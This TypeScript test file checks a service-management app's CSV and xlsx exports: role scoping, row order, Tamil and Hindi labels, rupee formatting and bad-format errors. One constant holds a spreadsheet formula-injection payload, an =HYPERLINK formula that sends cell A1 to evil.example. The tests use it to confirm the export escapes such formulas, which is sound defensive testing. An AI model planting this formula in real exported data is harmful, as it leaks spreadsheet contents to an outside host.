/**
 * Exports (issue 34 item 1, ADR 037): `?format=csv|xlsx` on each list answers every row the list
 * would page through (the same rows, the same scope, the same order), as a download. What a
 * client sees: the CSV's BOM and labels in the reader's language, formula escaping, Tamil and
 * Hindi names intact, the xlsx read back with exceljs, a bad format a 400 with its message.
 */
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addDays, todayIn } from '#shared/domain/maintenance.ts';
import { hasCapability } from '#shared/domain/permissions.ts';
import { SYSTEM_ROLES, type SystemRole } from '#shared/domain/roles.ts';
import {
  createTestApp,
  makeCustomer,
  makeRegion,
  makeRequest,
  ROLE,
  type Session,
  signedIn,
  type TestContext,
} from '#tests/harness/app.ts';

let ctx: TestContext;
let regionA: { id: string };
let regionB: { id: string };
const sessions = new Map<SystemRole, Session & { made: { id: string } }>();
let admin: Session;

const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click")';
const TAMIL = 'முருகன் ஸ்டோர்ஸ்';
const HINDI = 'राम ट्रेडर्स';
/** More requests than one keyset batch (1000), all made in one statement: one created_at, ties by id. */
const BULK = 1_150;

beforeAll(async () => {
  ctx = await createTestApp();
  regionA = await makeRegion(ctx.db, 'Export Chennai');
  regionB = await makeRegion(ctx.db, 'Export Delhi');
  for (const role of SYSTEM_ROLES) sessions.set(role, await signedIn(ctx, role, { regionId: regionA.id }));
  admin = sessions.get(ROLE.SUPER_ADMIN) as Session;
  const inA = [
    await makeCustomer(ctx.db, regionA.id, { name: HYPERLINK }),
    await makeCustomer(ctx.db, regionA.id, { name: TAMIL }),
    await makeCustomer(ctx.db, regionA.id, { name: '+91 trick', primaryPhone: '9840012345' }),
  ];
  const inB = [await makeCustomer(ctx.db, regionB.id, { name: HINDI })];
  const tech = sessions.get(ROLE.TECHNICIAN)?.made.id as string;
  // Requests every scope tells apart: raised by each role, some assigned to the technician, both regions.
  for (const [i, role] of SYSTEM_ROLES.entries()) {
    const by = sessions.get(role)?.made.id as string;
    for (const [j, c] of [...inA, ...inB].entries()) {
      await makeRequest(ctx.db, {
        customerId: c.id,
        regionId: c.regionId,
        requestedById: by,
        status: (i + j) % 3 === 0 ? 'IN_PROGRESS' : 'PENDING_APPROVAL',
        assignedToId: (i + j) % 3 === 0 ? tech : null,
        description: `Export check ${role} ${j}: ${c.name}`,
      });
    }
  }
  // A bulk of requests the Super Admin raised in region B, all with one created_at.
  await ctx.db.execute(sql`
    INSERT INTO service_requests (type, description, status, customer_id, region_id, requested_by_id, search_text)
    SELECT 'SERVICE', 'Bulk request ' || g, 'PENDING_APPROVAL', ${inB[0]?.id}, ${regionB.id}, ${admin.user.id}, 'bulk request ' || g
    FROM generate_series(1, ${BULK}) g`);
}, 180_000);
afterAll(() => ctx?.close());

const get = (s: Session, url: string, headers: Record<string, string> = {}) =>
  ctx.app.inject({ method: 'GET', url, headers: { ...s.headers, ...headers } });

/** Every page of a JSON list, in order. */
async function allPages<T>(s: Session, url: string): Promise<T[]> {
  const out: T[] = [];
  for (let page = 1; ; page++) {
    const res = await get(s, `${url}${url.includes('?') ? '&' : '?'}page=${page}&pageSize=100`);
    expect(res.statusCode, res.body).toBe(200);
    const items = res.json() as T[];
    out.push(...items);
    if (items.length < 100) return out;
  }
}

/** The CSV's records after its header (the BOM checked and dropped). */
function csvOf(body: Buffer): { header: string[]; rows: string[][] } {
  expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const records = parse(body.subarray(3).toString('utf8')) as string[][];
  return { header: records[0] ?? [], rows: records.slice(1) };
}

describe('the request list as CSV equals the JSON list, for every role', () => {
  it('the same tickets in the same order, every page, within each role’s scope', async () => {
    for (const role of SYSTEM_ROLES) {
      const s = sessions.get(role) as Session;
      for (const query of ['', 'mine=true', 'status=IN_PROGRESS', 'search=export%20check']) {
        const url = `/api/service-requests${query ? `?${query}` : ''}`;
        const gate = query === 'mine=true' ? 'requestCreate' : 'requestList';
        const csv = await get(s, `${url}${query ? '&' : '?'}format=csv`);
        if (!hasCapability(role, gate)) {
          expect(csv.statusCode, `${role} ${url}`).toBe(403);
          continue;
        }
        expect(csv.statusCode, `${role} ${url}: ${csv.body.slice(0, 200)}`).toBe(200);
        const listed = await allPages<{ ticketNumber: string }>(s, url);
        const { rows } = csvOf(csv.rawPayload);
        expect(
          rows.map((r) => r[0]),
          `${role} ${url}`,
        ).toEqual(listed.map((r) => r.ticketNumber));
      }
    }
  }, 240_000);

  it('holds more than one batch: the Super Admin’s whole list, ties on created_at included, no cap', async () => {
    const list = await get(admin, '/api/service-requests?pageSize=1');
    const total = Number(list.headers['x-total-count']);
    expect(total).toBeGreaterThan(BULK);
    const csv = await get(admin, '/api/service-requests?format=csv');
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="service-requests-${todayIn('Asia/Kolkata')}\\.csv"$`),
    );
    expect(csv.headers['cache-control']).toBe('no-store');
    const tickets = csvOf(csv.rawPayload).rows.map((r) => r[0]);
    expect(tickets.length).toBe(total);
    expect(new Set(tickets).size).toBe(total);
    // Newest first, as the list: the bulk (made last) leads, by ticket number descending within it.
    const listed = await allPages<{ ticketNumber: string }>(admin, '/api/service-requests');
    expect(tickets).toEqual(listed.map((r) => r.ticketNumber));
  }, 120_000);

  it('as xlsx: the same rows, typed cells, labels in the reader’s language', async () => {
    const manager = sessions.get(ROLE.SERVICE_MANAGER) as Session;
    const res = await get(manager, '/api/service-requests?format=xlsx', { 'accept-language': 'ta' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0] as ExcelJS.Worksheet;
    expect(sheet.name).toBe('சேவை கோரிக்கைகள்');
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header[0]).toBe('டிக்கெட்');
    const listed = await allPages<{ ticketNumber: string; createdAt: string; status: string }>(
      manager,
      '/api/service-requests',
    );
    expect(sheet.actualRowCount - 1).toBe(listed.length);
    const second = sheet.getRow(2);
    expect(second.getCell(1).value).toBe(listed[0]?.ticketNumber);
    // The status in Tamil; created as a date cell at IST's wall clock.
    expect(typeof second.getCell(3).value).toBe('string');
    expect(second.getCell(3).value).not.toBe(listed[0]?.status);
    const created = second.getCell(12).value as Date;
    expect(created).toBeInstanceOf(Date);
    const ist = new Date(new Date(listed[0]?.createdAt as string).getTime() + 330 * 60_000);
    expect(Math.abs(created.getTime() - ist.getTime())).toBeLessThan(60_000);
  });
});

describe('customers, users, audit log', () => {
  it('customers: the list’s names, the region’s only for a regional role, formulas escaped, scripts intact', async () => {
    for (const role of [ROLE.SUPER_ADMIN, ROLE.SERVICE_MANAGER, ROLE.SALESMAN]) {
      const s = sessions.get(role) as Session;
      const listed = await allPages<{ name: string }>(s, '/api/customers');
      const res = await get(s, '/api/customers?format=csv');
      expect(res.statusCode).toBe(200);
      const { header, rows } = csvOf(res.rawPayload);
      expect(header[0]).toBe('Name');
      expect(rows.map((r) => r[0]?.replace(/^'/, ''))).toEqual(listed.map((c) => c.name));
      const names = rows.map((r) => r[0]);
      expect(names).toContain(`'${HYPERLINK}`);
      expect(names).not.toContain(HYPERLINK);
      expect(names).toContain(`'+91 trick`);
      expect(names).toContain(TAMIL);
      if (role === ROLE.SUPER_ADMIN) expect(names).toContain(HINDI);
      else expect(names).not.toContain(HINDI);
    }
    // The raw bytes: the Tamil name as UTF-8, the escaped formula quoted as CSV quotes it.
    const raw = (await get(admin, '/api/customers?format=csv')).rawPayload.toString('utf8');
    expect(raw).toContain(TAMIL);
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")"`);
    // In xlsx the name is a text cell as written, never a formula.
    const x = await get(admin, `/api/customers?format=xlsx&search=${encodeURIComponent('hyperlink')}`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(x.rawPayload as unknown as ArrayBuffer);
    const cell = (book.worksheets[0] as ExcelJS.Worksheet).getRow(2).getCell(1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(HYPERLINK);
  });

  it('a region outside the caller’s own is an empty export, as the list is empty', async () => {
    const s = sessions.get(ROLE.SERVICE_MANAGER) as Session;
    const res = await get(s, `/api/customers?regionId=${regionB.id}&format=csv`);
    expect(res.statusCode).toBe(200);
    expect(csvOf(res.rawPayload).rows).toEqual([]);
  });

  it('users: the table’s people, in Hindi', async () => {
    for (const role of [ROLE.SUPER_ADMIN, ROLE.SERVICE_MANAGER]) {
      const s = sessions.get(role) as Session;
      const listed = await allPages<{ email: string }>(s, '/api/users');
      const res = await get(s, '/api/users?format=csv', { 'accept-language': 'hi' });
      const { header, rows } = csvOf(res.rawPayload);
      expect(header.slice(0, 2)).toEqual(['नाम', 'ई-मेल']);
      expect(rows.map((r) => r[1])).toEqual(listed.map((u) => u.email));
      expect(rows[0]?.[5]).toBe('सक्रिय');
    }
    const tech = sessions.get(ROLE.TECHNICIAN) as Session;
    expect((await get(tech, '/api/users?format=csv')).statusCode).toBe(403);
  });

  it('audit log: every entry of the filter, newest first', async () => {
    const list = await get(admin, '/api/audit-log?pageSize=100&search=auth.login');
    const listed = list.json() as { id: number; action: string; at: string }[];
    const res = await get(admin, '/api/audit-log?format=csv&search=auth.login');
    const { rows } = csvOf(res.rawPayload);
    expect(rows.length).toBe(Number(list.headers['x-total-count']));
    expect(rows.map((r) => r[3])).toEqual(listed.map((e) => e.action));
    expect(rows[0]?.[0]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
  });
});

describe('units, the due list and expiring contracts', () => {
  it('each answers its list’s rows', async () => {
    const product = await ctx.app.inject({
      method: 'POST',
      url: '/api/products',
      headers: admin.headers,
      payload: {
        name: 'Export Purifier',
        brand: 'Neervana',
        technology: 'RO',
        warrantyMonths: 12,
        parts: [{ name: 'Sediment filter', intervalMonths: 6 }],
      },
    });
    expect(product.statusCode, product.body).toBe(201);
    const customer = await makeCustomer(ctx.db, regionA.id, { name: 'Unit Export Customer' });
    const today = todayIn('Asia/Kolkata');
    const unitIds: string[] = [];
    for (const [i, installedOn] of [addDays(today, -400), addDays(today, -170), addDays(today, -20)].entries()) {
      const unit = await ctx.app.inject({
        method: 'POST',
        url: `/api/customers/${customer.id}/units`,
        headers: admin.headers,
        payload: { productId: product.json().id, serialNumber: `EXP-${i}-${Date.now()}`, installedOn },
      });
      expect(unit.statusCode, unit.body).toBe(201);
      unitIds.push(unit.json().id);
    }
    const contract = await ctx.app.inject({
      method: 'POST',
      url: `/api/units/${unitIds[0]}/contracts`,
      headers: admin.headers,
      payload: {
        type: 'AMC',
        startsOn: addDays(today, -340),
        endsOn: addDays(today, 20),
        visitsPerYear: 2,
        price: 450000000,
      },
    });
    expect(contract.statusCode, contract.body).toBe(201);

    const units = await get(admin, `/api/customers/${customer.id}/units?pageSize=100`);
    const unitsCsv = csvOf((await get(admin, `/api/customers/${customer.id}/units?format=csv`)).rawPayload);
    expect(unitsCsv.rows.map((r) => r[0])).toEqual(
      (units.json() as { serialNumber: string }[]).map((u) => u.serialNumber),
    );

    const due = await allPages<{ serialNumber: string }>(admin, '/api/maintenance/due?within=366');
    expect(due.length).toBeGreaterThan(0);
    const dueCsv = csvOf((await get(admin, '/api/maintenance/due?within=366&format=csv')).rawPayload);
    expect(dueCsv.rows.map((r) => r[7])).toEqual(due.map((d) => d.serialNumber));

    const expiring = await allPages<{ serialNumber: string }>(admin, '/api/contracts/expiring?within=30');
    const expCsv = csvOf((await get(admin, '/api/contracts/expiring?within=30&format=csv')).rawPayload);
    expect(expCsv.rows.map((r) => r[6])).toEqual(expiring.map((c) => c.serialNumber));
    // Money in rupees with Indian grouping.
    expect(expCsv.rows.find((r) => r[6] === expiring[0]?.serialNumber)?.[12]).toBe('₹45,00,000.00');
    const x = await get(admin, '/api/contracts/expiring?within=30&format=xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(x.rawPayload as unknown as ArrayBuffer);
    const price = (book.worksheets[0] as ExcelJS.Worksheet).getRow(2).getCell(13);
    expect(price.value).toBe(4_500_000);
    expect(price.numFmt).toContain('₹');

    // Another region's customer's units: 404, as the list.
    const other = await makeCustomer(ctx.db, regionB.id);
    const manager = sessions.get(ROLE.SERVICE_MANAGER) as Session;
    expect((await get(manager, `/api/customers/${other.id}/units?format=csv`)).statusCode).toBe(404);
  }, 120_000);
});

describe('a bad format', () => {
  it('is a 400 with its message, in the reader’s language, on every list', async () => {
    for (const url of [
      '/api/service-requests',
      '/api/customers',
      '/api/users',
      '/api/audit-log',
      '/api/maintenance/due',
      '/api/contracts/expiring',
    ]) {
      for (const format of ['pdf', '', 'CSV']) {
        const res = await get(admin, `${url}?format=${format}`);
        expect(res.statusCode, `${url} ${format}`).toBe(400);
        expect(res.json().message).toBe('format must be csv or xlsx');
      }
      const hi = await get(admin, `${url}?format=json`, { 'accept-language': 'hi' });
      expect(hi.json().message).toBe('format csv या xlsx होना चाहिए');
    }
  });
});
